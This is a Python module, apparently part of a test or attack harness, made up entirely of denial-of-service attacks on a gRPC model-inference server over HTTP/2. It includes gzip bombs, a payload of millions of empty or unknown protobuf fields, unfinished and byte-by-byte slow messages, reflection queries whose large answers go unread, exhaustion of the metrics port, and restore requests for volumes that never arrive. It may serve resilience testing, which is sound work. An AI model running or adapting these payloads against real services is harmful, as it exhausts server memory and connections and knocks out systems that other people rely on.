"""Attacks by gRPC's messages: compressed ones, ones that never end, and small questions with large answers."""

import functools
import gzip

import http2_frames as h2
from front_attack import CHECK, GZIP, MIB, MODEL_INFER, MODEL_STREAM_INFER, REFLECTION, RESTORE, SERVER_LIVE, WATCH, gzip_of_nothing, varint


def stream_of_unread_answers(attack):
    """One call whose many small questions have large answers."""
    connection = attack.connect(values={h2.INITIAL_WINDOW_SIZE: 2**31 - 1}, receive_buffer=4096)
    connection.send(h2.window_update(0, 2**30), h2.open_grpc(1, REFLECTION))
    symbol = b"inference.GRPCInferenceService"
    question = h2.message(bytes([0x22, len(symbol)]) + symbol)
    while attack.running():
        if connection.upload(1, question * 1000, end=False):
            return


def symbols_of_dots(attack):
    """Questions of 50 bytes and without a token, for a name of four thousand parts."""
    symbol = b"." * 4072
    question = h2.message(gzip.compress(b"\x22" + varint(len(symbol)) + symbol), compressed=True)
    connection = attack.connect(values={h2.INITIAL_WINDOW_SIZE: 2**31 - 1})
    connection.send(h2.window_update(0, 2**30))
    for stream in range(1, 65, 2):
        connection.send(h2.open_grpc(stream, REFLECTION, GZIP))
        if connection.upload(stream, question * 1000, end=False):
            return


def bomb_for(method, attack):
    connection = attack.connect()
    connection.send(h2.open_grpc(1, method, GZIP))
    # It may be refused as soon as its length is known.
    if not connection.upload(1, h2.message(h2.gzip_bomb(8600 * MIB), compressed=True)):
        connection.answer(1)


def bomb_for_health(attack):
    """8.35 MB that are 8.6 GB."""
    bomb_for(CHECK, attack)


def bomb_for_inference(attack):
    """The same where messages may be large."""
    bomb_for(MODEL_INFER, attack)


def one_call(attack, head, message):
    """A call of one message, whose answer is awaited."""
    connection = attack.connect()
    connection.send(head)
    connection.upload(1, message)
    connection.answer(1)


def empty_blocks(attack):
    """48 MiB that are nothing: the size of what comes of them bounds no work."""
    one_call(attack, h2.open_grpc(1, MODEL_INFER, GZIP), h2.message(gzip_of_nothing(48 * MIB), compressed=True))


def small_bombs_at_once(attack):
    """200 calls in one packet, each of a kilobyte that becomes a mebibyte."""
    connection = attack.connect()
    bomb = h2.message(h2.gzip_bomb(MIB), compressed=True)
    connection.send(*(h2.open_grpc(stream, CHECK, GZIP) + h2.data(stream, bomb) for stream in range(1, 401, 2)))
    connection.answer(1)


def watches_of_the_metrics_port(attack):
    """More watches of health than the metrics port has places for connections."""
    for _ in range(300):
        connection = attack.connect(attack.metrics_port)
        connection.send(h2.open_grpc(1, WATCH), h2.data(1, h2.message(b"")))
        connection.until(h2.HEADERS)
    attack.wait_for_end()


def descriptions_that_nobody_reads(attack):
    """Questions of few bytes and without a token, whose answers are the descriptions of all messages."""
    symbol = b"inference.GRPCInferenceService"
    question = h2.message(bytes([0x22, len(symbol)]) + symbol)
    for _ in range(40):
        connection = attack.connect(values={h2.INITIAL_WINDOW_SIZE: 0}, receive_buffer=4096)
        for stream in range(1, 401, 2):
            connection.send(h2.open_grpc(stream, REFLECTION), h2.data(stream, question, end=False))
    attack.wait_for_end()


def long_ids(attack):
    """Streams of requests that are wrong, whose ids and names come back, or would if they were not too long."""
    for length in (1000, 60_000):
        text = varint(length) + b"x" * length
        request = h2.message(gzip.compress(b"\x0a" + text + b"\x12" + text + b"\x1a" + text), compressed=True)
        connection = attack.connect(values={h2.INITIAL_WINDOW_SIZE: 0})
        for stream in range(1, 401, 2):
            connection.send(h2.open_grpc(stream, MODEL_STREAM_INFER, GZIP), h2.data(stream, request * 100, end=False))
    attack.wait_for_end()


def bomb_of_empty_inputs(attack):
    """61 kB that are 30 million inputs without a field; gRPC's server took 6.2 GiB for them."""
    bomb = h2.gzip_bomb(60 * MIB, b"\x2a\x00" * (MIB // 2))
    one_call(attack, h2.open_grpc(1, MODEL_INFER, GZIP), h2.message(bomb, compressed=True))


def short_messages_of_empty_inputs(attack):
    """A hundred messages on one stream, each of some 70 bytes that are 16,384 inputs without a field. The stream goes on after an
    item that is wrong."""
    request = h2.message(gzip.compress(b"\x2a\x00" * (16 << 10)), compressed=True)
    one_call(attack, h2.open_grpc(1, MODEL_STREAM_INFER, GZIP), request * 100)


def empty_inputs(attack):
    """32 MiB of the same, uncompressed."""
    one_call(attack, h2.open_grpc(1, MODEL_INFER), h2.message(b"\x2a\x00" * (16 * MIB)))


def unknown_fields(attack):
    """15 kB that are five million fields nobody knows, in a question that needs no token."""
    bomb = h2.gzip_bomb(15 * MIB, b"\xa0\x06\x01" * (MIB // 3))
    one_call(attack, h2.open_grpc(1, SERVER_LIVE, GZIP), h2.message(bomb, compressed=True))


def unfinished_messages(attack):
    """Sixteen messages of 60 MiB at once, of which the last byte never comes."""
    connection = attack.connect()
    streams = list(range(1, 33, 2))
    for stream in streams:
        connection.send(h2.open_grpc(stream, MODEL_INFER))
        connection.upload(stream, h2.message(bytes(1000), length=60 * MIB), end=False)
    at = {stream: 1000 for stream in streams}
    while attack.running():
        open_now = [stream for stream in streams if at[stream] < 60 * MIB - MIB]
        able = [stream for stream in open_now if min(connection.window(0), connection.window(stream)) > 0]
        for stream in able:
            size = min(h2.MAX_FRAME, connection.window(0), connection.window(stream))
            if size > 0 and connection.upload(stream, bytes(size), end=False):
                streams.remove(stream)
            at[stream] += size
        if not able:
            got = connection.next()
            if got.ends_stream and got.stream in streams:
                streams.remove(got.stream)


def claims(attack):
    """Messages that claim 60 MiB, and of which nothing comes."""
    connection = attack.connect()
    for stream in range(1, 401, 2):
        connection.send(h2.open_grpc(stream, MODEL_INFER), h2.data(stream, h2.message(b"", length=60 * MIB), end=False))
    attack.wait(1)


def messages_byte_by_byte(attack):
    """Messages that claim 1 MiB and come in frames of a byte."""
    connection = attack.connect()
    streams = range(1, 17, 2)
    for stream in streams:
        connection.send(h2.open_grpc(stream, MODEL_INFER), h2.data(stream, h2.message(b"", length=MIB), end=False))
    while attack.running():
        for stream in streams:
            connection.send(h2.data(stream, b"\x0a", end=False))
        attack.wait(0.04)


def volume_that_never_comes(attack, whole=128 * MIB):
    """Restore is told how large the volume will be. First as much as the daemon has room for, then half of it."""
    connection = attack.connect()
    for stream, size in ((1, whole), (3, whole // 2 - MIB)):
        header = b"\x0a\x06served" + b"\x28" + varint(size)
        request = b"\x0a" + varint(len(header)) + header
        connection.send(h2.open_grpc(stream, RESTORE), h2.data(stream, h2.message(request), end=False))
    attack.wait_for_end()


@functools.cache
def shape_of_millions():
    """A ModelInferRequest whose input has four million extents, and is 8 MiB, compressed."""
    shape = b"\x90\x4e" * (4 * MIB)
    tensor = b"\x0a\x01a" + b"\x12\x04FP32" + b"\x1a" + varint(len(shape)) + shape
    return gzip.compress(b"\x0a\x01x" + b"\x2a" + varint(len(tensor)) + tensor, 1)


def shapes_that_errors_repeat(attack):
    """The error prints the shape, and nobody reads it."""
    for _ in range(10):
        connection = attack.connect(values={h2.INITIAL_WINDOW_SIZE: 0}, receive_buffer=4096)
        for stream in range(1, 9, 2):
            connection.send(h2.open_grpc(stream, MODEL_STREAM_INFER, GZIP))
            connection.upload(stream, h2.message(shape_of_millions(), compressed=True), end=False)
    attack.wait_for_end()


def header_that_is_kept(attack):
    """Restore keeps the header of a volume; this one has fields that nobody knows, and no volume follows."""
    header = b"\x0a\x06served" + b"\x28\x04" + varint(1000 << 3 | 2) + varint(4 * MIB) + bytes(4 * MIB)
    request = gzip.compress(b"\x0a" + varint(len(header)) + header, 1)
    connection = attack.connect()
    for stream in range(1, 121, 2):
        connection.send(h2.open_grpc(stream, RESTORE, GZIP))
        connection.upload(stream, h2.message(request, compressed=True), end=False)
    attack.wait_for_end()
